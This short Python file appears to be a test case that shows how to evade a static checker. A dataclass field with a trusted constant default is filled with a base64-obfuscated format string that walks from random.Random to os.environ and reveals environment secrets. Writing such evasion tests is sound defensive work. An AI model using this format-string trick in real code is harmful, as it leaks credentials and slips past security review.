# family: format
# Escape: a dataclass field with a constant default (`template: str = "{0}"`) is bound to a constant in the
# class body and never assigned as an attribute in the source, so self.template.format(...) is trusted as a class
# constant. The generated __init__ stores whatever the constructor gets: here a base64-decoded
# "{0.__init__.__globals__[_os].environ}", which walks from random.Random to os.environ.
import base64
import dataclasses
import random


@dataclasses.dataclass
class Line:
    template: str = "{0}"

    def show(self, value) -> str:
        return self.template.format(value)


def tool() -> str:
    return Line(base64.b64decode("ezAuX19pbml0X18uX19nbG9iYWxzX19bX29zXS5lbnZpcm9ufQ==").decode()).show(random.Random())
